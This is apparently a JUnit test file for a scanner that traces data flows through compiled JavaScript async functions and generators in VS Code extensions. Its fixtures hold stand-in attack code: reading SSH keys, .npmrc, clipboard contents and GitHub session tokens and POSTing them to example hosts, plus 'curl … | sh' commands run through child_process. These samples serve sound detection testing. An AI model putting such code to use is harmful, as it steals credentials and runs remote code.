package dev.vsxray.scanner.javascript.flow;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vsxray.scanner.model.Feature;
import java.util.List;
import org.junit.jupiter.api.Test;

/** Async functions and generators as compilers write them for engines that have neither: a switch over labels. */
class CompiledGeneratorsTest {

    /** What the compilers' own helpers do, in short; the form of the body is what is recognised, not their names. */
    private static final String HELPERS = """
            function awaiter(self, args, P, body) {
              return new Promise(function (done) {
                const g = body.apply(self, args || []);
                (function step(r) {
                  r.done ? done(r.value) : Promise.resolve(r.value).then(v => step(g.next(v)));
                })(g.next());
              });
            }
            function generator(self, body) { return unknownHelper(self, body); }
            const regenerator = unknownRuntime();
            """;

    private static List<String> fetched(Analysis analysis) {
        return analysis.calls()
                .filter(call -> call.api().equals("global.fetch"))
                .flatMap(call -> call.arguments().get(0).texts().stream())
                .toList();
    }

    private static Analysis typescript(String body) {
        return Analysis.ofActivate(HELPERS + "awaiter(this, void 0, void 0, function () { " + body + " });");
    }

    @Test
    void followsWhatIsAwaitedThroughLabels() {
        Analysis analysis = typescript("""
                var answer, body;
                return generator(this, function (s) {
                  switch (s.label) {
                    case 0: return [4, fetch('https://tasks.example/next')];
                    case 1:
                      answer = s.sent();
                      return [4, answer.json()];
                    case 2:
                      body = s.sent();
                      if (!body.go) return [2];
                      return [4, answer.text()];
                    case 3:
                      eval(s.sent());
                      return [2];
                  }
                });
                """);

        assertThat(analysis.flowNames()).containsExactly("network-response -> code-eval");
    }

    @Test
    void followsBothWaysOfAConditionThatIsNotKnown() {
        Analysis analysis = typescript("""
                var data;
                return generator(this, function (s) {
                  switch (s.label) {
                    case 0:
                      if (!fs.existsSync('/etc/left')) return [3, 2];
                      return [4, fs.promises.readFile(os.homedir() + '/.ssh/id_rsa')];
                    case 1:
                      data = s.sent();
                      return [3, 4];
                    case 2: return [4, fs.promises.readFile(os.homedir() + '/.npmrc')];
                    case 3:
                      data = s.sent();
                      s.label = 4;
                    case 4: return [4, fetch('https://up.example/k', { method: 'POST', body: data })];
                    case 5:
                      s.sent();
                      return [2];
                  }
                });
                """);

        assertThat(analysis.flowNames())
                .contains("ssh-credentials -> network-send", "package-credentials -> network-send");
    }

    @Test
    void countsALoopThatAwaitsToItsEnd() {
        Analysis analysis = typescript("""
                var parts, name, i;
                return generator(this, function (s) {
                  switch (s.label) {
                    case 0:
                      parts = ['child', '_', 'pro', 'cess'];
                      name = '';
                      i = 0;
                      s.label = 1;
                    case 1:
                      if (!(i < parts.length)) return [3, 4];
                      return [4, Promise.resolve(parts[i])];
                    case 2:
                      name += s.sent();
                      s.label = 3;
                    case 3:
                      i++;
                      return [3, 1];
                    case 4:
                      require(name).exec('curl https://run.example/a | sh');
                      return [2, name];
                  }
                });
                """);

        assertThat(analysis.callsOf("process-command")).containsExactly("node:child_process.exec");
    }

    @Test
    void runsTheCasesThatCatch() {
        Analysis analysis = typescript("""
                var failed;
                return generator(this, function (s) {
                  switch (s.label) {
                    case 0:
                      s.trys.push([0, 2, , 3]);
                      return [4, fetch('https://first.example/')];
                    case 1:
                      s.sent();
                      return [3, 3];
                    case 2:
                      failed = s.sent();
                      cp.exec('curl https://fallback.example/ | sh');
                      return [3, 3];
                    case 3: return [2];
                  }
                });
                """);

        assertThat(analysis.callsOf("process-command")).containsExactly("node:child_process.exec");
    }

    @Test
    void followsTheLabelsThatBabelStores() {
        Analysis analysis = Analysis.ofActivate(HELPERS + """
                awaiter(this, [], Promise, regenerator.mark(function send(_x) {
                  var key;
                  return regenerator.wrap(function send$(_context) {
                    while (1) switch (_context.prev = _context.next) {
                      case 0:
                        _context.prev = 0;
                        _context.next = 3;
                        return fs.promises.readFile(os.homedir() + '/.ssh/id_rsa', 'utf8');
                      case 3:
                        key = _context.sent;
                        if (!(key.length > 10)) { _context.next = 7; break; }
                        _context.next = 7;
                        return fetch('https://keys.example/up', { method: 'POST', body: key });
                      case 7:
                        return _context.abrupt("return", key);
                      case 8:
                        _context.prev = 8;
                        _context.t0 = _context["catch"](0);
                        cp.exec('touch /tmp/caught');
                      case "end":
                        return _context.stop();
                    }
                  }, send, this, [[0, 8]]);
                }));
                """);

        assertThat(analysis.flowNames()).contains("ssh-credentials -> network-send");
        assertThat(analysis.callsOf("process-command")).containsExactly("node:child_process.exec");
    }

    @Test
    void followsTheShortNamesOfNewerBabel() {
        Analysis analysis = Analysis.ofActivate(HELPERS + """
                awaiter(this, [], Promise, function () {
                  var doc, _t;
                  return regenerator().w(function (_c) {
                    for (;;) switch (_c.p = _c.n) {
                      case 0:
                        _c.p = 0;
                        _c.n = 1;
                        return vscode.env.clipboard.readText();
                      case 1:
                        doc = _c.v;
                        _c.n = 2;
                        return fetch('https://clip.example/', { method: 'POST', body: doc });
                      case 2:
                        return _c.a(2, doc);
                      case 3:
                        _c.p = 3;
                        _t = _c.v;
                        return _c.a(2);
                    }
                  }, null, null, [[0, 3]]);
                });
                """);

        assertThat(analysis.flowNames()).containsExactly("clipboard -> network-send");
    }

    @Test
    void yieldsOfACompiledGeneratorAreItsElements() {
        Analysis analysis = Analysis.ofActivate(HELPERS + """
                function parts() {
                  return generator(this, function (s) {
                    switch (s.label) {
                      case 0: return [4, 'child_'];
                      case 1: s.sent(); return [4, 'process'];
                      case 2: s.sent(); return [2];
                    }
                  });
                }
                require(Array.from(parts()).join('')).exec('id');
                """);

        assertThat(analysis.callsOf("process-command")).containsExactly("node:child_process.exec");
    }

    @Test
    void isSilentWhereTheLabelThatSendsIsNeverReached() {
        Analysis analysis = typescript("""
                var key;
                return generator(this, function (s) {
                  switch (s.label) {
                    case 0: return [4, fs.promises.readFile(os.homedir() + '/.ssh/id_rsa')];
                    case 1:
                      key = s.sent();
                      return [3, 3];
                    case 2: return [4, fetch('https://up.example/k', { method: 'POST', body: key })];
                    case 3: return [2, 'kept'];
                  }
                });
                """);

        assertThat(analysis.flowNames()).isEmpty();
    }

    /** The helpers as TypeScript 5.9 writes them for ES2017, shortened by what has no part in it. */
    @Test
    void followsAsynchronousGeneratorsOfTypeScript() {
        Analysis analysis = Analysis.of("""
                var wrap = function (v) { return this instanceof wrap ? (this.v = v, this) : new wrap(v); };
                var generating = function (self, given, generator) {
                  if (!Symbol.asyncIterator) throw new TypeError("Symbol.asyncIterator is not defined.");
                  var g = generator.apply(self, given || []), i, q = [];
                  return i = {}, verb("next"), i[Symbol.asyncIterator] = function () { return this; }, i;
                  function verb(n) { i[n] = v => new Promise((a, b) => { q.push([n, v, a, b]) > 1 || resume(n, v); }); }
                  function resume(n, v) { try { step(g[n](v)); } catch (e) { settle(q[0][3], e); } }
                  function step(r) { r.value instanceof wrap ? Promise.resolve(r.value.v).then(fulfill, reject) : settle(q[0][2], r); }
                  function fulfill(value) { resume("next", value); }
                  function reject(value) { resume("throw", value); }
                  function settle(f, v) { if (f(v), q.shift(), q.length) resume(q[0][0], q[0][1]); }
                };
                var values = function (o) { return o[Symbol.asyncIterator].call(o); };
                function pages(text) { return generating(this, arguments, function* () { yield yield wrap(text); }); }
                exports.activate = async () => {
                  for (var all = values(pages(require('os').hostname())), step; step = await all.next(), !step.done;) {
                    await fetch('https://far.example/', { method: 'POST', body: step.value });
                  }
                };
                """);

        assertThat(analysis.flowNames()).containsExactly("account-identity -> network-send");
    }

    @Test
    void aLoopThatAsksAGeneratorByHandGetsWhatItYields() {
        Analysis analysis = Analysis.ofActivate(HELPERS + """
                function names() {
                  return generator(this, function (s) {
                    switch (s.label) {
                      case 0: return [4, os.hostname()];
                      case 1: s.sent(); return [2];
                    }
                  });
                }
                for (var all = names(), step = all.next(); !step.done; step = all.next()) fetch('https://loop.example/' + step.value);
                function* written() { yield os.userInfo().username; }
                const { value } = written().next();
                fetch('https://one.example/' + value);
                """);

        assertThat(analysis.flows("account-identity", "network-url"))
                .flatExtracting(Feature.Flow::destinations)
                .containsExactlyInAnyOrder("https://loop.example/…", "https://one.example/…");
    }

    @Test
    void whatIsAwaitedIsNotWhatAnAsyncFunctionGives() {
        Analysis analysis = typescript("""
                return generator(this, function (s) {
                  switch (s.label) {
                    case 0: return [4, os.hostname()];
                    case 1: s.sent(); return [2, 'done'];
                  }
                });
                }).then(function (given) { fetch('https://given.example/' + given);
                """);

        assertThat(analysis.flowNames()).isEmpty();
    }

    @Test
    void followsAsynchronousGeneratorsOfBabelAndSwc() {
        Analysis analysis = Analysis.ofActivate("""
                function Queued(gen) {
                  function resume(key, arg) {
                    var result = gen[key](arg), value = result.value;
                    Promise.resolve(value instanceof Held ? value.v : value).then(
                        function (arg) { settle(result.done ? 'return' : 'normal', arg); },
                        function (err) { resume('throw', err); });
                  }
                  this._invoke = function (key, arg) { return new Promise(function (resolve) { enqueue(resolve); resume(key, arg); }); };
                }
                Queued.prototype[Symbol.asyncIterator] = function () { return this; };
                Queued.prototype.next = function (arg) { return this._invoke('next', arg); };
                function Held(value) { this.v = value; }
                const wrap = made => function () { return new Queued(made.apply(this, arguments)); };
                const names = wrap(function* () { yield os.hostname(); });
                (async () => { for await (const name of names()) fetch('https://queue.example/' + name); })();
                """);

        assertThat(analysis.flowNames()).containsExactly("account-identity -> network-url");
    }

    /** The helpers as esbuild 0.25 writes them for ES2017. */
    @Test
    void followsAsynchronousGeneratorsOfEsbuild() {
        Analysis analysis = Analysis.of("""
                var known = (name, symbol) => (symbol = Symbol[name]) ? symbol : Symbol.for("Symbol." + name);
                var wrap = function (promise, isYieldStar) { this[0] = promise; this[1] = isYieldStar; };
                var generating = (self, given, generator) => {
                  var resume = (k, v, yes, no) => {
                    try {
                      var x = generator[k](v), isAwait = (v = x.value) instanceof wrap, done = x.done;
                      Promise.resolve(isAwait ? v[0] : v)
                          .then(y => isAwait ? resume(k === "return" ? k : "next", y, yes, no) : yes({ value: y, done }))
                          .catch(e => resume("throw", e, yes, no));
                    } catch (e) { no(e); }
                  }, method = (k, call) => it[k] = x => (call = new Promise((yes, no) => resume(k, x, yes, no)), call), it = {};
                  return generator = generator.apply(self, given), it[known("asyncIterator")] = () => it,
                      method("next"), method("throw"), method("return"), it;
                };
                var values = (o, it) => (it = o[known("asyncIterator")]) ? it.call(o) : o;
                function files(dir) {
                  return generating(this, null, function* () {
                    for (const name of yield new wrap(require('fs').promises.readdir(dir))) {
                      const stat = yield new wrap(require('fs').promises.stat(name));
                      yield { path: dir + '/id_rsa', size: stat.size };
                    }
                  });
                }
                exports.activate = async () => {
                  for (var all = values(files('/etc')), more, step; more = !(step = await all.next()).done; more = false) {
                    const file = step.value;
                    fetch('https://file.example' + file.path);
                  }
                };
                """);

        assertThat(fetched(analysis)).containsExactly("https://file.example/etc/id_rsa");
    }

    @Test
    void whatACompiledAsynchronousGeneratorAwaitsIsNothingThatItYields() {
        Analysis analysis = Analysis.ofActivate("""
                var wrap = function (v) { return this instanceof wrap ? (this.v = v, this) : new wrap(v); };
                var generating = function (self, given, generator) {
                  if (!Symbol.asyncIterator) throw new TypeError("Symbol.asyncIterator is not defined.");
                  var g = generator.apply(self, given || []), i, q = [];
                };
                function pages() {
                  return generating(this, arguments, function* () {
                    const host = yield wrap(Promise.resolve('waited'));
                    yield yield wrap({ name: 'given by ' + host });
                  });
                }
                (async () => { for await (const page of pages()) fetch('https://page.example/' + page.name); })();
                """);

        assertThat(fetched(analysis)).containsExactly("https://page.example/given by waited");
    }

    @Test
    void followsWhatAGeneratorPassesOnToAnother() {
        Analysis analysis = Analysis.ofActivate("""
                var yieldStar = value => {
                  var obj = value[Symbol.asyncIterator], isAwait = false, method, it = {};
                  if (obj == null) {
                    obj = value[Symbol.iterator]();
                    method = k => it[k] = x => obj[k](x);
                  } else {
                    obj = obj.call(value);
                    method = k => it[k] = v => isAwait ? (isAwait = false, v) : (isAwait = true, { done: false, value: obj[k](v) });
                  }
                  return it[Symbol.iterator] = () => it, method("next"), "throw" in obj ? method("throw") : 0, "return" in obj && method("return"), it;
                };
                function* inner() { yield 'one'; yield os.hostname(); }
                function* outer() { yield* yieldStar(inner()); }
                for (const name of outer()) fetch('https://outer.example/' + name);
                """);

        assertThat(fetched(analysis)).containsExactly("https://outer.example/one", "https://outer.example/…");
    }

    /** As swc 1.16 writes it, shortened by what has no part in it. */
    @Test
    void followsWhatAnAsynchronousGeneratorPassesOnToAnother() {
        Analysis analysis = Analysis.ofActivate("""
                function Held(value, kind) { this.v = value; this.k = kind; }
                function delegate(inner) {
                  var iter = {}, waiting = false;
                  function pump(key, value) {
                    waiting = true;
                    return { done: false, value: new Held(new Promise(resolve => { resolve(inner[key](value)); }), 1) };
                  }
                  iter[typeof Symbol !== "undefined" && Symbol.iterator || "@@iterator"] = function () { return this; };
                  iter.next = value => waiting ? (waiting = false, value) : pump("next", value);
                  if (typeof inner.throw === "function") iter.throw = value => pump("throw", value);
                  if (typeof inner.return === "function") iter.return = value => pump("return", value);
                  return iter;
                }
                async function* inner() { yield 'one'; yield 'two'; }
                async function* outer() { yield* delegate(inner()); }
                for await (const name of outer()) fetch('https://outer.example/' + name);
                """);

        assertThat(fetched(analysis)).containsExactly("https://outer.example/one", "https://outer.example/two");
    }

    @Test
    void onlyAnAsynchronousGeneratorIsIteratedAsynchronously() {
        Analysis analysis = Analysis.ofActivate("""
                function* names() { yield 'one'; }
                async function* pages() { yield 'two'; }
                if (!names()[Symbol.asyncIterator]) fetch('https://names.example/');
                if (pages()[Symbol.asyncIterator]) fetch('https://pages.example/');
                """);

        assertThat(fetched(analysis)).containsExactly("https://names.example/", "https://pages.example/");
    }

    @Test
    void aModuleOfABundleThatHoldsTheHelperOfTypeScriptRuns() {
        Analysis analysis = Analysis.of("""
                (() => {
                  var all = { 7: (module, exports, load) => {
                    var generators = this && this.made || function (self, given, body) {
                      if (!Symbol.asyncIterator) throw new TypeError("Symbol.asyncIterator is not defined.");
                    };
                    const os = load(8);
                    exports.activate = () => fetch('https://module.example/' + os.hostname());
                  }, 8: module => { module.exports = require('os'); } };
                  function load(id) { const made = { exports: {} }; all[id](made, made.exports, load); return made.exports; }
                  module.exports = load(7);
                })();
                """);

        assertThat(analysis.flowNames()).containsExactly("account-identity -> network-url");
    }

    @Test
    void aCaseThatReturnsOneOfSeveralAwaitsAllOfThem() {
        Analysis analysis = Analysis.ofActivate("""
                const drive = body => ({ next() {} });
                drive(function (_context) {
                  while (1) switch (_context.n) {
                    case 0:
                      _context.n = 1;
                      return vscode.authentication.getSession('github', [], { silent: true });
                    case 1:
                      fetch('https://session.example/', { method: 'POST', body: _context.v.accessToken });
                      return _context.a(2);
                  }
                });
                """);

        assertThat(analysis.flowNames()).containsExactly("auth-session -> network-send");
    }

    @Test
    void aWayThatFailsBehindAnUncertainOneIsNotTheOnlyOne() {
        Analysis analysis = Analysis.ofActivate("""
                const arrayOf = list => { if (Array.isArray(list)) return list; };
                const fail = () => { throw new TypeError('Invalid attempt to spread non-iterable instance.'); };
                const names = arrayOf(JSON.parse(process.argv[2])) || fail();
                fetch('https://spread.example/' + os.hostname() + names);
                """);

        assertThat(analysis.flowNames()).contains("account-identity -> network-url");
    }
}
